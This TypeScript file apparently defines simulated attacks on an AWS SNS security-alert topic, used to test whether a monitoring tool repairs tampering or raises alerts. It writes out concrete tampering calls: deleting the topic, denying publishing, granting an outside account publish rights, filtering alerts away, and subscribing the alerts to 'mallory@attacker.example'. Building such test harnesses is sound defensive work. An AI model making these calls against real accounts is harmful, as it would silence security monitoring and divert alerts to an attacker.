/** Attacks on the topic of the alerts: nobody is told, or somebody else is. */
import type { AttackTargets, CatalogueAttack } from './attack';

type TopicAttack = Pick<CatalogueAttack, 'title' | 'expected' | 'heard'> & {
  readonly input?: (targets: AttackTargets) => object;
  readonly lost?: readonly string[];
};

/** By an administrator of the security account, which owns the topic. */
function topicAttack(event: string, { input, ...attack }: TopicAttack): CatalogueAttack {
  return {
    event,
    service: 'sns',
    operation: event,
    from: 'security',
    input: (targets) => ({ TopicArn: targets.arns.alertTopic, ...input?.(targets) }),
    ...attack,
  };
}

/** Whoever was told has to confirm again, whatever the responder does. */
const UNCONFIRMED = 'trailwarden-alerts / subscriptions';

export const SNS_ATTACKS: readonly CatalogueAttack[] = [
  topicAttack('DeleteTopic', {
    title: 'Delete the topic of the alerts',
    expected: 'repaired',
    lost: [UNCONFIRMED, 'trailwarden:account-name'],
    heard: 'by-confirmation',
  }),
  topicAttack('SetTopicAttributes', {
    title: 'Let nobody publish on the topic',
    input: ({ arns }) => ({
      AttributeName: 'Policy',
      AttributeValue: JSON.stringify({
        Version: '2012-10-17',
        Statement: [{ Effect: 'Deny', Principal: '*', Action: 'sns:Publish', Resource: arns.alertTopic }],
      }),
    }),
    expected: 'repaired',
  }),
  topicAttack('AddPermission', {
    title: 'Let an account outside of the organization publish alerts of its own',
    input: ({ outsider }) => ({ Label: 'friends', AWSAccountId: [outsider], ActionName: ['Publish'] }),
    expected: 'repaired',
  }),
  topicAttack('RemovePermission', {
    title: 'Keep the alarms from the topic',
    input: () => ({ Label: 'AlarmsOfThisAccount' }),
    expected: 'repaired',
  }),
  topicAttack('Subscribe', {
    title: 'Have the alerts sent to an address of one’s own',
    input: () => ({ Protocol: 'email', Endpoint: 'mallory@attacker.example' }),
    expected: 'alerted',
  }),
  {
    ...topicAttack('Unsubscribe', {
      title: 'Keep the alerts from somebody who is told',
      expected: 'repaired',
      lost: [UNCONFIRMED],
    }),
    input: ({ subscriptionArn }) => ({ SubscriptionArn: subscriptionArn }),
  },
  {
    ...topicAttack('SetSubscriptionAttributes', {
      title: 'Filter the alerts that somebody gets',
      expected: 'repaired',
    }),
    input: ({ subscriptionArn }) => ({
      SubscriptionArn: subscriptionArn,
      AttributeName: 'FilterPolicy',
      AttributeValue: JSON.stringify({ severity: ['none'] }),
    }),
  },
];
